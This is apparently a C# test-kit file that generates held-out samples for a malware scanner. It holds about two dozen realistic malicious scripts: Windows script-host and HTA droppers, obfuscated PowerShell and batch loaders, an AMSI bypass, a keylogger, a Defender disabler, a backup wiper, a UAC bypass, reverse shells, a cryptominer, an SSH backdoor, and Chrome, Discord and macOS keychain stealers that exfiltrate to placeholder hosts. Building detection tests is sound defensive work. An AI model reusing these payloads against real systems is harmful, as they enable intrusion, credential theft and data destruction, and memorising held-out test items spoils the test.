namespace ScanHost.TestKit.HeldOut.Third;

/// <summary>JavaScript and VBScript for Windows' script host.</summary>
public sealed class HostScripts : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Quotation 5521.js", Utf8("var a=['t','c','e','j','b','O','X','e','v','i','t','c','A'].reverse().join('');var G=this[a];var s=new G('WScr'+'ipt.Sh'+'ell');var x=new G('MSXML2.ServerXMLHTTP.6.0');x.open('GET','https://cdn-docs.invalid/q/'+Math.random(),false);x.send();var d=new G('ADO'+'DB.Str'+'eam');d.Type=1;d.Open();d.Write(x.responseBody);var p=s.ExpandEnvironmentStrings('%TEMP%')+'\\\\q.exe';d['Sa'+'veTo'+'File'](p,2);s['R'+'un'](p,0,false);")),
        ("is_it_legal_agreement_71.js", Utf8("/*! jQuery UI - v1.12.1 */\n(function(factory){factory(jQuery);}(function($){$.ui=$.ui||{};}));\nfunction hand(b){return b.split('').reverse().join('')}\nvar seat='" + Reverse("var o=new ActiveXObject('MSXML2.XMLHTTP');o.open('GET','https://site.invalid/xmlrpc.php?q='+w.ExpandEnvironmentStrings('%USERDNSDOMAIN%'),false);o.send();if(o.status==200)eval(o.responseText);") + "';\nvar w=WScript.CreateObject('WScript.Shell');WScript.Sleep(22222);hand.constructor(hand(seat))();\n")),
        ("DHL_AWB.wsf", Utf8("<?xml version=\"1.0\"?><package><job id=\"a\"><script language=\"JScript\" src=\"http://192.0.2.211/lib.js\"/><script language=\"VBScript\"><![CDATA[Set s=CreateObject(\"WScript.Shell\"): s.Run \"powershell -nop -w 1 -c \"\"IEX((New-Object Net.WebClient).DownloadString('http://192.0.2.211/s'))\"\"\",0]]></script></job></package>")),
        ("PO#90021.vbs", Utf8("Dim nSDf: nSDf = \"llehS.tpircSW\"\nSet oQ = CreateObject(StrReverse(nSDf))\nz = \"powershell -command \"\"$i='https://archive-img.invalid/new_image.jpg';$b=(New-Object Net.WebClient).DownloadData($i);$t=[Text.Encoding]::UTF8.GetString($b);$s=$t.IndexOf('<<BASE64_START>>')+16;$e=$t.IndexOf('<<BASE64_END>>');$a=[Reflection.Assembly]::Load([Convert]::FromBase64String($t.Substring($s,$e-$s)));$a.GetType('dnlib.IO.Home').GetMethod('VAI').Invoke($null,[object[]]('txt.moc.dilavni//:sptth'))\"\"\"\noQ.Run z, 0, False\n")),
        ("factura.vbs", Utf8("On Error Resume Next\nFunction d(s): For i = 1 To Len(s) Step 3: d = d & Chr(CInt(Mid(s, i, 3)) - 11): Next: End Function\nExecuteGlobal d(\"" + string.Concat("CreateObject(\"WScript.Shell\").Run \"cmd /c curl http://192.0.2.212/v -o %tmp%\\v.exe & %tmp%\\v.exe\",0".Select(letter => (letter + 11).ToString("000", System.Globalization.CultureInfo.InvariantCulture))) + "\")\n")),
        ("Shipment.vbe", ScriptEncoder.Encode("Set h=CreateObject(\"Microsoft.XMLHTTP\"):h.open \"GET\",\"http://192.0.2.213/s.exe\",False:h.send:Set t=CreateObject(\"ADODB.Stream\"):t.Type=1:t.Open:t.Write h.responseBody:t.SaveToFile \"C:\\Users\\Public\\s.exe\",2:CreateObject(\"Shell.Application\").ShellExecute \"C:\\Users\\Public\\s.exe\"")),
        ("invoice.hta", Utf8("<html><head><HTA:APPLICATION ID=\"x\" SHOWINTASKBAR=\"no\" WINDOWSTATE=\"minimize\"></head><script language=\"javascript\">window.resizeTo(0,0);window.moveTo(-999,-999);document.write(unescape('" + string.Concat("<script language=\"vbscript\">CreateObject(\"WScript.Shell\").Run \"powershell -ep bypass -c iwr http://192.0.2.214/i.ps1|iex\",0:close</script>".Select(letter => $"%{(int)letter:X2}")) + "'));</script></html>")),
        ("statement.sct", Utf8("<?XML version=\"1.0\"?><scriptlet><registration progid=\"P\" classid=\"{F0001111-0000-0000-0000-0000FEEDACDC}\"><script language=\"JScript\"><![CDATA[var r=new ActiveXObject(\"WScript.Shell\").Run(\"rundll32.exe C:\\\\ProgramData\\\\a.dll,DllRegisterServer\",0);]]></script></registration></scriptlet>")),
    ];

    private static string Reverse(string text) => new([.. text.Reverse().Select(letter => letter == '\'' ? '"' : letter)]);
}

/// <summary>PowerShell as loaders write it.</summary>
public sealed class ShellLoaders : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("stage.ps1", Utf8("$d='" + Convert.ToBase64String(InertFiles.Gzip([.. new PeBuilder().Build(), .. new byte[4000]])) + "'\n$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String($d))\n$g=New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress)\n$o=New-Object IO.MemoryStream\n$g.CopyTo($o)\n[Reflection.Assembly]::Load($o.ToArray()).EntryPoint.Invoke($null,@(,[string[]]@()))\n")),
        ("u.ps1", Utf8("&($PSHOME[4]+$PSHOME[30]+'x')(('" + string.Join("!", "(New-Object Net.WebClient).DownloadString('http://192.0.2.221/p')|iex".Select(letter => ((int)letter).ToString(System.Globalization.CultureInfo.InvariantCulture))) + "'-split'!'|%{[char][int]$_})-join'')\n")),
        ("prep.ps1", Utf8("$a=[Ref].Assembly.GetTypes();foreach($b in $a){if($b.Name -like '*iUtils'){$c=$b}};$d=$c.GetFields('NonPublic,Static');foreach($e in $d){if($e.Name -like '*Context'){$f=$e}};$g=$f.GetValue($null);[IntPtr]$ptr=$g;[Int32[]]$buf=@(0);[Runtime.InteropServices.Marshal]::Copy($buf,0,$ptr,1)\niex((iwr http://192.0.2.222/b -UseBasicParsing).Content)\n")),
        ("update.ps1", Utf8("$ErrorActionPreference='SilentlyContinue'\n$p=\"$env:APPDATA\\NS7\"\nni $p -ItemType Directory -Force|Out-Null\nInvoke-WebRequest 'https://ns-files.invalid/ns.zip' -OutFile \"$p\\n.zip\"\nExpand-Archive \"$p\\n.zip\" $p -Force\n(Get-Item $p -Force).Attributes='Hidden'\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'NS' -Value \"$p\\client32.exe\" -Force\nStart-Process \"$p\\client32.exe\" -WindowStyle Hidden\n")),
        ("log.ps1", Utf8("$s='[DllImport(\"user32.dll\")]public static extern short GetAsyncKeyState(int k);'\n$a=Add-Type -MemberDefinition $s -Name W -Namespace N -PassThru\n$l=\"$env:TEMP\\k.log\"\nwhile($true){Start-Sleep -Milliseconds 40;for($k=8;$k -le 254;$k++){if($a::GetAsyncKeyState($k) -eq -32767){[char]$k|Out-File $l -Append -NoNewline}}\nif((Get-Item $l).Length -gt 2kb){Invoke-RestMethod -Uri 'https://discord.com/api/webhooks/1/x' -Method Post -Body @{content=(Get-Content $l -Raw)};Remove-Item $l}}\n")),
        ("cleaner.ps1", Utf8("Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0 -SubmitSamplesConsent 2\nAdd-MpPreference -ExclusionPath 'C:\\ProgramData','C:\\Users\\Public'\nReg Add 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' /v DisableAntiSpyware /t REG_DWORD /d 1 /f\n(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.223/svch.exe','C:\\ProgramData\\svch.exe');Start-Process 'C:\\ProgramData\\svch.exe'\n")),
    ];
}

/// <summary>Batch files as loaders write them.</summary>
public sealed class BatchLoaders : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("crypted.bat", Dos("@echo off\nset \"kqz=er\"\nset \"vbn=pow\"\nset \"lop=shell\"\nset \"wsx= -w hid\"\nset \"edc=den -c \"\nset \"rfv=iex(ir\"\nset \"tgb=m http://192.0.2.231/c)\"\n%vbn%%kqz%%lop%%wsx%%edc%\"%rfv%%tgb%\"\nexit /b\n")),
        ("Jl.cmd", Dos("@echo off\ncopy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe \"%~f0.exe\" >nul\ncls\n\"%~f0.exe\" -noprofile -windowstyle hidden -ep bypass -command $c=[IO.File]::ReadAllText('%~f0').Split([Environment]::NewLine);foreach($l in $c){if($l.StartsWith(':: ')){$d=$l.Substring(3);break}};$x=[Security.Cryptography.Aes]::Create();$x.Key=[Convert]::FromBase64String('AAAA');$p=[Convert]::FromBase64String($d);$e=$x.CreateDecryptor().TransformFinalBlock($p,0,$p.Length);[Reflection.Assembly]::Load($e).EntryPoint.Invoke($null,$null)\nexit\n:: " + Convert.ToBase64String(Enumerable.Range(0, 900).Select(at => (byte)(at * 167)).ToArray()) + "\n")),
        ("svc.bat", Dos("@echo off\nbitsadmin /transfer job /download /priority foreground http://192.0.2.232/up.exe %APPDATA%\\up.exe\nreg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d \"%APPDATA%\\up.exe\" /f\nreg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /f\nfodhelper.exe\ntimeout 3 >nul\n")),
        ("wipe.bat", Dos("@echo off\nnet stop \"SQLSERVERAGENT\" /y\ntaskkill /f /im sqlservr.exe\nvssadmin delete shadows /all /quiet\nwbadmin delete catalog -quiet\nbcdedit /set {default} recoveryenabled no\nbcdedit /set {default} bootstatuspolicy ignoreallfailures\nwevtutil cl System\nwevtutil cl Security\n")),
        ("run.cmd", Dos("@e^ch^o o^ff\nc^e^rt^ut^il -ur^lc^ac^he -sp^l^it -f ht^tp:^/^/192.0.2.233/e.png %te^mp%\\e.dll >n^ul\nre^gs^vr^32 /s %te^mp%\\e.dll\n")),
    ];
}

/// <summary>Scripts for Linux and macOS.</summary>
public sealed class UnixLoaders : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("i.sh", Utf8("#!/bin/sh\npkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing\nD=/var/tmp/.x; mkdir -p $D; cd $D\ncurl -fsSL http://203.0.113.9/x.tar.gz -o x.tgz || wget -q http://203.0.113.9/x.tar.gz -O x.tgz\ntar xf x.tgz; nohup ./xmr -o pool.invalid:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k --donate-level 1 >/dev/null 2>&1 &\n(crontab -l 2>/dev/null; echo \"*/5 * * * * $D/xmr\") | crontab -\nchattr +i $D/xmr; history -c\n")),
        ("setup.sh", Utf8($"#!/bin/bash\necho {Base64("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")} | base64 -d | bash &\ncat >> ~/.bashrc <<'X'\n(nohup bash -c 'exec 3<>/dev/tcp/198.51.100.7/4445; bash <&3 >&3' &) 2>/dev/null\nX\n")),
        ("keys.sh", Utf8("#!/bin/sh\nmkdir -p /root/.ssh\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@kali' >> /root/.ssh/authorized_keys\nchattr +i /root/.ssh/authorized_keys\nsed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\nuseradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd; echo 'sysd:p' | chpasswd\niptables -F; setenforce 0; rm -rf /var/log/wtmp /var/log/lastlog\n")),
        ("helper.py", Utf8("import socket,subprocess,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.8',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n")),
        ("grabber.py", Utf8("import os,re,json,base64,requests,sqlite3,shutil\nfrom Crypto.Cipher import AES\nfrom win32crypt import CryptUnprotectData\nHOOK='https://discord.com/api/webhooks/11/aa'\nP=os.getenv('LOCALAPPDATA')+r'\\Google\\Chrome\\User Data'\nk=CryptUnprotectData(base64.b64decode(json.load(open(P+r'\\Local State'))['os_crypt']['encrypted_key'])[5:],None,None,None,0)[1]\nshutil.copy2(P+r'\\Default\\Login Data','l.db')\nrows=sqlite3.connect('l.db').execute('SELECT origin_url,username_value,password_value FROM logins').fetchall()\nout=[(u,n,AES.new(k,AES.MODE_GCM,p[3:15]).decrypt(p[15:])[:-16].decode()) for u,n,p in rows]\nfor r,_,fs in os.walk(os.getenv('APPDATA')+r'\\discord\\Local Storage\\leveldb'):\n    for f in fs: out+=re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',open(os.path.join(r,f),errors='ignore').read())\nrequests.post(HOOK,json={'content':str(out)[:1900]})\n")),
        ("loader.py", Utf8($"import zlib as _z,base64 as _b,marshal as _m\n_=lambda __:_z.decompress(_b.b64decode(__[::-1]));exec((_)(b'{new string([.. Convert.ToBase64String(Enumerable.Range(0, 400).Select(at => (byte)(at * 31)).ToArray()).Reverse()])}'))\n")),
        ("Installer.command", Utf8("#!/bin/bash\nosascript -e 'display dialog \"macOS needs your password to update the system settings\" default answer \"\" with title \"System Preferences\" with hidden answer' > /tmp/p\nsecurity unlock-keychain -p \"$(cat /tmp/p)\"\ncp ~/Library/Keychains/login.keychain-db /tmp/o/; cp -r ~/Library/Application\\ Support/Firefox/Profiles /tmp/o/\nditto -c -k /tmp/o /tmp/o.zip; curl -X POST -F 'f=@/tmp/o.zip' http://198.51.100.11/log\n")),
    ];
}
